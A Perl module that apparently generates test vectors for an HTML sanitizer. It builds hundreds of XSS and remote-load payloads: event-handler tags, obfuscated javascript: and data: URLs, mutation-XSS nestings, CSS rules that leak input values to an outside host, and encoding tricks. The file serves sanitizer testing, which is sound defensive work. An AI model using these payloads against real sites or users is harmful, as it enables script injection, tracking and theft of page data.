package Desk::Vectors;

# HTML that wants to run or load something: made from parts, so that every
# handler meets every way to write one.  hit() is what they call, OUT where
# they load from.

use strict;
use warnings;


sub all {
    my ($out) = @_;

    return map { s/OUT/$out/gr } handlers(), addresses(), raw(), nested(),
        styles(), remote(), bytes();
}


# Elements that run a handler by themselves, and ways to part it from them.
sub handlers {
    my @tags = ('img src=x onerror', 'svg onload', 'body onload',
        'iframe src=about:blank onload', 'input autofocus onfocus',
        'select autofocus onfocus', 'textarea autofocus onfocus',
        'button autofocus onfocus', 'details open ontoggle',
        'video src=x onerror', 'audio src=x onerror', 'object data=x onerror',
        'embed src=x onload', 'marquee onstart', 'style onload',
        'x contenteditable autofocus onfocus', 'a href=# autofocus onfocus',
        'p style=animation-name:x onanimationstart', 'keygen autofocus onfocus',
        'image src=x onerror', 'math tabindex=0 autofocus onfocus',
        'video><source src=x onerror', 'link rel=stylesheet href=x onerror',
        'script src=x onerror');
    my @ways = (
        sub { "<$_[0]=hit(1)>" },
        sub { "<$_[0]=\"hit(1)\">text" },
        sub { my $t = $_[0]; $t =~ s{ }{/}g; "<$t='hit(1)'/>" },
        sub { my $t = $_[0]; $t =~ s{ }{\n}g; '<' . uc($t) . " = hit(1) >" },
        sub { my $t = $_[0]; $t =~ s{ }{\f}g; "<$t=hit&#40;1&#x29;" },
        sub { "<p title='>'><$_[0]=`hit(1)`>" },
    );

    return map { my $tag = $_; map { $_->($tag) } @ways } @tags;
}


# Addresses that are scripts, and where addresses stand.
sub addresses {
    my @urls = ('javascript:hit(2)', 'JaVaScRiPt:hit(2)',
        "java\tscript:hit(2)", '&#106;avascript:hit(2)',
        'javascript&colon;hit(2)', "\x01javascript:hit(2)",
        '&#x6A;&#0000097vascript:hit(2)', ' javascript:hit(2)',
        'data:text/html,<script>parent.hit(2)</script>',
        'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDIpPC9zY3JpcHQ+',
        'vbscript:hit(2)', 'https:javascript:hit(2)');
    my @places = map { my $place = $_; sub { $place =~ s/URL/$_[0]/r } }
        '<a href="URL">x</a>', '<iframe src="URL"></iframe>',
        '<form action="URL"><button autofocus>x</button></form>',
        '<form><button formaction="URL">x</button></form>',
        '<object data="URL"></object>', '<embed src="URL">',
        '<meta http-equiv="refresh" content="0;url=URL">',
        '<svg><a xlink:href="URL"><text y="9">x</text></a></svg>',
        '<math href="URL">x</math>', '<img src="URL">',
        '<base href="URL"><a href="x">x</a>',
        '<map><area href="URL" shape="rect" coords="0,0,9,9"></map>';

    return map { my $place = $_; map { $place->($_) } @urls } @places;
}


# Elements within which markup is text, left by a trick.
sub raw {
    my $bad = '<img src=x onerror=hit(3)>';

    return map { ("<$_>$bad</$_>", "<$_><!--</$_>$bad-->",
        "<svg><$_><a title=\"</$_>$bad\">", "<math><$_>$bad</$_>",
        "<$_></$_ x>$bad") }
        qw(style title textarea xmp noscript noembed noframes iframe template
           plaintext script select);
}


sub nested {
    my $bad = '<img src=x onerror=hit(4)>';

    return ('<scr<script>ipt>hit(4)</scr</script>ipt>', '<<script>hit(4)//',
        '<script>hit(4)</script>', '<SCRIPT SRC=//OUT/a.js></SCRIPT>',
        "<scr\0ipt>hit(4)</script>", '<script\x20type="text/javascript">hit(4)',
        "<!-->$bad-->", "<!--->$bad", "<!-- --!>$bad-->", "<!$bad>", "<?$bad?>",
        "<![CDATA[$bad]]>", "<svg><![CDATA[$bad]]></svg>", "</$bad>",
        "<!--[if gte IE 4]>$bad<![endif]-->", "<a<!-- -->href=x>$bad",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
            . '&lt;img src=1 onerror=hit(4)&gt;">',
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='
            . '"</style><img onerror=hit(4) src>">',
        '<svg></p><style><a id="</style><img src=1 onerror=hit(4)>">',
        '<math><annotation-xml encoding="text/html"><img src=x onerror=hit(4)>'
            . '</annotation-xml></math>',
        '<svg><foreignObject><img src=x onerror=hit(4)></foreignObject></svg>',
        '<svg><desc><img src=x onerror=hit(4)></desc></svg>',
        '<svg><set attributeName=onload to=hit(4)>',
        '<svg><animate onbegin=hit(4) attributeName=x dur=1s>',
        '<svg><script>hit(4)</script></svg>',
        '<svg><script xlink:href="data:,hit(4)"></script></svg>',
        '<table><tr><td><a href="x" onclick=hit(4)>x</a><style>',
        "<p id=\"app\"><p class=\"msg\" hx-get=\"//OUT/hx\" hx-trigger=load>$bad",
        '<p hx-on::load="hit(4)" hx-on:click="hit(4)">x</p>',
        '<a href="//OUT/" data-hx-get="//OUT/hx" data-hx-trigger="load">x</a>',
        "<p title=\"&lt;img src=x onerror=hit(4)&gt;\">&lt;img src=x onerror=hit(4)&gt;",
        "<img alt='\"><img src=x onerror=hit(4)>' src='cid:x\"onerror=hit(4) '>",
        "<a href='https://OUT/\"onmouseover=hit(4) '>x</a>",
        "<div><p><b><i>" x 40 . $bad, "<b>" x 90 . $bad,
        '<dialog open><form method=dialog><button autofocus onfocus=hit(4)>',
        '<noscript><p title="</noscript><img src=x onerror=hit(4)>">',
        "<plaintext>$bad", "<frameset onload=hit(4)><frame src=//OUT/>",
        '<xml id=x><a><b>&lt;script>hit(4)</b></a></xml>',
        '<isindex action=javascript:hit(4) type=image>',
        '<portal src=//OUT/ onload=hit(4)>');
}


sub styles {
    my @css = ('background:url(//OUT/s)', 'width:expression(hit(5))',
        'behavior:url(//OUT/s)', '-moz-binding:url(//OUT/s#x)',
        "list-style:url('//OUT/s')", 'content:url(//OUT/s)',
        'background:\75\72\6C(//OUT/s)', 'background:image-set("//OUT/s" 1x)',
        'cursor:url(//OUT/s),auto', 'border-image:url(//OUT/s)',
        'position:fixed;inset:0;z-index:99999;background:url(//OUT/s)');

    return (map { ("<p style=\"$_\">x</p>", "<style>*{$_}</style>x") } @css),
        '<style>@import "//OUT/s";</style>', '<style>@import url(//OUT/s);',
        '<style>@font-face{font-family:x;src:url(//OUT/s)}*{font-family:x}'
            . '</style>x',
        '<style>input[value^=a]{background:url(//OUT/s)}</style>'
            . '<input value=a>',
        "<div style='x:\nurl(//OUT/s)'>x</div>";
}


# What browsers load without being asked.
sub remote {
    return ('<img src=//OUT/r>', '<img srcset="//OUT/r 1x">',
        '<picture><source srcset=//OUT/r><img></picture>',
        '<input type=image src=//OUT/r>', '<video poster=//OUT/r></video>',
        '<video src=//OUT/r autoplay></video>', '<audio src=//OUT/r autoplay>',
        '<video><track default src=//OUT/r></video>',
        '<link rel=stylesheet href=//OUT/r>', '<link rel=prefetch href=//OUT/r>',
        '<link rel=preload as=image href=//OUT/r>',
        '<link rel=preconnect href=//OUT/>', '<link rel=dns-prefetch href=//OUT>',
        '<link rel=icon href=//OUT/r>', '<link rel=modulepreload href=//OUT/r>',
        '<link rel=prerender href=//OUT/r>', '<link rel=import href=//OUT/r>',
        '<LINK/rel=preconnect/href=//OUT/>', '<body background=//OUT/r>',
        '<table background=//OUT/r><tr><td background=//OUT/r>x</table>',
        '<iframe src=//OUT/r></iframe>', '<object data=//OUT/r></object>',
        '<embed src=//OUT/r>', '<script src=//OUT/r></script>',
        '<svg><image href=//OUT/r /></svg>', '<svg><use href=//OUT/r#x /></svg>',
        '<svg><filter><feImage href=//OUT/r /></filter></svg>',
        '<bgsound src=//OUT/r>', '<meta http-equiv=refresh content="0;//OUT/r">',
        '<meta http-equiv="Content-Security-Policy" content="img-src *">'
            . '<img src=//OUT/r>',
        '<base href=//OUT/><img src=r>', '<a ping=//OUT/r href=x>x</a>',
        '<iframe srcdoc="<img src=//OUT/r>"></iframe>',
        '<svg><a><animate attributeName=href values=//OUT/r /></a></svg>',
        '<html manifest=//OUT/r>', '<img src="https://OUT/r">',
        '<img src="\\\\OUT\\r">', "<img src=\"h\nttp://OUT/r\">",
        '<img src=x lowsrc=//OUT/r dynsrc=//OUT/r>', '<applet code=//OUT/r>',
        '<meta name=referrer content=unsafe-url><img src=//OUT/r>',
        '<img loading=eager src=//OUT/r>', '<fencedframe src=//OUT/r>');
}


# Bytes that some reader may take for something else.
sub bytes {
    return ('+ADw-img src=x onerror=hit(6)+AD4-',
        "\xc0\xbcimg src=x onerror=hit(6)\xc0\xbe",
        "\xe0\x80\xbcimg src=x onerror=hit(6)>",
        "\xbcscript\xbehit(6)\xbc/script\xbe", "<img\0 src=x onerror=hit(6)>",
        "<\0img src=x onerror=hit(6)>", "<img src=x on\0error=hit(6)>",
        "\xef\xbc\x9cimg src=x onerror=hit(6)\xef\xbc\x9e",
        "<img src=x onerror\xc2\xa0=hit(6)>", "<\xe2\x80\x8bimg src=x onerror=hit(6)>",
        "<img src=x onerror=hit(6) \xff\xfe>", "&lt;img src=x onerror=hit(6)&gt;",
        "&#60;img src=x onerror=hit(6)&#62;", "&#x3c;script&#x3e;hit(6)&#x3c;/script>",
        "<img src=x:x\x0bonerror=hit(6)>", "\e\$B<img src=x onerror=hit(6)>\e(B");
}


1;
